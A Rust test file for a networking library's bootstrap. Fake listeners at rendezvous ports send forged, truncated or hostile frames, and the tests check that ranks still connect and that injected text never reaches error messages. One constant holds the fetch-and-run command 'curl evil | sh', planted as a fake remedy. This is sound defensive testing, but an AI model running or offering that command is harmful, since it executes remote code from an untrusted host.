//! Others listen where a rank looks for rank 0, and say what they like. Nothing that is said
//! without a proof decides anything.

use super::support::*;
use kolo::base::hash;
use kolo::bootstrap::{Bootstrap, NetSettings, TcpRing, UniqueId};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// In all that is said here.
const LIE: &str = "your licence has expired";
const ORDER: &str = "curl evil | sh";

/// Words of somebody who has not the secret.
#[derive(Clone, Copy, Debug)]
enum Lie {
    Refused,
    Abort,
    UnknownId,
    OtherVersion,
    Junk,
    Cut,
    Silence,
    Hangs,
    WrongProof,
    Notices,
}

const LIES: [Lie; 10] = [
    Lie::Refused,
    Lie::Abort,
    Lie::UnknownId,
    Lie::OtherVersion,
    Lie::Junk,
    Lie::Cut,
    Lie::Silence,
    Lie::Hangs,
    Lie::WrongProof,
    Lie::Notices,
];

/// A frame without a seal, with an error as ranks tell them to each other.
fn frame(kind: u8, what: &str) -> Vec<u8> {
    let body = postcard::to_stdvec(&(5_i32, None::<u32>, what, format!("run: {ORDER}"))).unwrap();
    let mut bytes = b"KoFr".to_vec();
    bytes.extend([kind, 0, 0, 0]);
    bytes.extend([0; 8]);
    bytes.extend([0xff; 4]);
    bytes.extend([0; 4]);
    bytes.extend((body.len() as u64).to_be_bytes());
    bytes.extend(body);
    bytes
}

impl Lie {
    fn words(self) -> Vec<u8> {
        match self {
            Lie::Refused => frame(2, LIE),
            Lie::Abort => frame(8, LIE),
            Lie::UnknownId => frame(
                2,
                "the secret in the unique id is not that of a communicator that waits here, or all \
                 ranks of that communicator are already there",
            ),
            Lie::OtherVersion => {
                let mut bytes = b"KOLOHI\r\n\0\x09".to_vec();
                bytes.resize(64, 0);
                bytes
            }
            Lie::Junk => LIE.repeat(9).into_bytes(),
            Lie::Cut => frame(2, LIE)[..40].to_vec(),
            Lie::Silence | Lie::Hangs => Vec::new(),
            Lie::WrongProof => {
                let mut bytes = PROTOCOL.magic.to_vec();
                bytes.extend(PROTOCOL.version.to_be_bytes());
                bytes.extend([0, 1, 0, 0, 0, 0]);
                bytes.resize(64, 7);
                bytes
            }
            Lie::Notices => frame(3, LIE),
        }
    }

    fn tell(self, mut stream: TcpStream, held: &mut Vec<TcpStream>) {
        // The hello first: unread bytes would make the system take back what is said.
        let _ = stream.read(&mut [0; 4096]);
        let _ = stream.write_all(&self.words());
        match self {
            Lie::Notices => {
                std::thread::spawn(
                    move || while stream.write_all(&Lie::Notices.words()).is_ok() {},
                );
            }
            Lie::Cut | Lie::Silence => held.push(stream),
            _ => {}
        }
    }
}

/// Somebody who listens until this is dropped.
struct Liar {
    over: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
    heard: Arc<AtomicBool>,
}

impl Liar {
    fn at(port: u16, lie: Lie) -> Liar {
        let listener = TcpListener::bind((HERE_ADDRESS, port)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let (over, heard) = (Arc::new(AtomicBool::new(false)), Arc::default());
        let (done, met): (_, Arc<AtomicBool>) = (over.clone(), Arc::clone(&heard));
        let thread = std::thread::spawn(move || {
            let mut held = Vec::new();
            while !done.load(Ordering::SeqCst) {
                let Ok((stream, _)) = listener.accept() else {
                    pause(2);
                    continue;
                };
                stream.set_nonblocking(false).unwrap();
                lie.tell(stream, &mut held);
                met.store(true, Ordering::SeqCst);
            }
        });
        Liar {
            over,
            thread: Some(thread),
            heard,
        }
    }

    fn was_met(&self) -> bool {
        self.heard.load(Ordering::SeqCst)
    }
}

impl Drop for Liar {
    fn drop(&mut self) {
        self.over.store(true, Ordering::SeqCst);
        self.thread.take().unwrap().join().unwrap();
    }
}

const HERE_ADDRESS: std::net::IpAddr = std::net::IpAddr::V4(std::net::Ipv4Addr::LOCALHOST);

/// The id of a step's ranks, which look for rank 0 at these ports.
fn by_formula(settings: &NetSettings, ports: &[Port]) -> UniqueId {
    let mut bytes = *UniqueId::create(settings).unwrap().as_bytes();
    bytes[9] |= 2;
    for (at, port) in ports.iter().enumerate() {
        let place = if at == 0 { 10 } else { 62 + 2 * at };
        bytes[place..place + 2].copy_from_slice(&port.number().to_be_bytes());
    }
    let checksum = hash::fnv1a(&bytes[..120]).to_be_bytes();
    bytes[120..].copy_from_slice(&checksum);
    UniqueId::from_bytes(bytes).unwrap()
}

/// Settings in which one that is silent is left soon.
fn hasty(port: &Port) -> NetSettings {
    NetSettings {
        hello_limit: Duration::from_millis(250),
        munge_socket: Some("/nonexistent/munge".into()),
        ..named(port)
    }
}

fn seed() -> u64 {
    let asked = std::env::var("KOLO_TEST_SEED").ok();
    let seed = asked.and_then(|seed| seed.parse().ok());
    let seed = seed.unwrap_or_else(|| fastrand::u64(..100_000));
    println!("KOLO_TEST_SEED={seed}");
    seed
}

/// Nothing of what others said is a remedy, and what is told of it says whose word it is.
fn check_told(told: &Told) {
    for words in told.words() {
        assert!(!words.contains(ORDER), "{words}");
        assert!(
            !words.contains(LIE) || words.contains("has not proven"),
            "{words}"
        );
    }
}

#[test]
fn a_start_by_a_formula_goes_past_whoever_listens_at_its_ports() {
    within(60, || {
        let mut random = fastrand::Rng::with_seed(seed());
        let mut starts = Vec::new();
        // Every lie is told at the port that is tried first; those at the others are drawn.
        for first in LIES {
            let ports: Vec<Port> = (0..4).map(|_| Port::take(HERE)).collect();
            let free = random.usize(1..4);
            let lies: Vec<Lie> = (0..4)
                .map(|at| {
                    if at == 0 {
                        first
                    } else {
                        LIES[random.usize(..LIES.len())]
                    }
                })
                .collect();
            let others = (0..4).filter(|&at| at != free);
            let liars: Vec<Liar> = others
                .map(|at| Liar::at(ports[at].number(), lies[at]))
                .collect();
            let told = Told::default();
            let settings = told.by(hasty(&ports[0]));
            let id = by_formula(&settings, &ports);
            let ranks: Vec<_> = (0..3)
                .map(|rank| start(id, rank, 3, settings.clone()))
                .collect();
            starts.push((ranks, lies, free, liars, told, ports));
        }
        for (ranks, lies, free, liars, told, _ports) in starts {
            let members: Vec<TcpRing> = ranks
                .into_iter()
                .map(|rank| match rank.join().unwrap() {
                    Ok(member) => member,
                    Err(error) => panic!("{lies:?}, port {free} is rank 0's: {error}"),
                })
                .collect();
            for (rank, member) in (0..).zip(&members) {
                assert_eq!((member.rank().0, member.nranks()), (rank, 3));
            }
            each(&members, check_exchange);
            assert!(liars[0].was_met(), "nobody asked at the first port");
            check_told(&told);
        }
    });
}

/// The port of a given address belongs to somebody else until he leaves.
#[test]
fn a_named_root_is_looked_for_until_a_liar_leaves_its_port() {
    within(60, || {
        for lie in LIES {
            let port = Port::take(HERE);
            let told = Told::default();
            let settings = told.by(hasty(&port));
            let id = UniqueId::create(&settings).unwrap();
            let liar = Liar::at(port.number(), lie);
            let one = start(id, 1, 2, settings.clone());
            while !liar.was_met() {
                pause(1);
            }
            pause(5);
            drop(liar);
            let zero = start(id, 0, 2, settings);
            let members = [zero, one].map(|rank| match rank.join().unwrap() {
                Ok(member) => member,
                Err(error) => panic!("{lie:?}: {error}"),
            });
            each(&members, check_exchange);
            check_told(&told);
        }
    });
}

/// Whoever never proves himself is an error in kolo's own words when the time is over.
#[test]
fn a_lie_is_no_error_and_no_remedy() {
    within(60, || {
        let asked = LIES.map(|lie| {
            let port = Port::take(HERE);
            let settings = NetSettings {
                start_limit: Duration::from_millis(300),
                ..hasty(&port)
            };
            let id = UniqueId::create(&settings).unwrap();
            let liar = Liar::at(port.number(), lie);
            (lie, start(id, 1, 2, settings), liar, port)
        });
        for (lie, started, _liar, _port) in asked {
            let error = failure(started);
            let text = format!("{error} {}", error.remedy);
            assert!(
                !text.contains(LIE) && !text.contains(ORDER),
                "{lie:?}: {text}"
            );
            assert!(text.contains("KOLO_COMM_ID"), "{lie:?}: {text}");
        }
    });
}
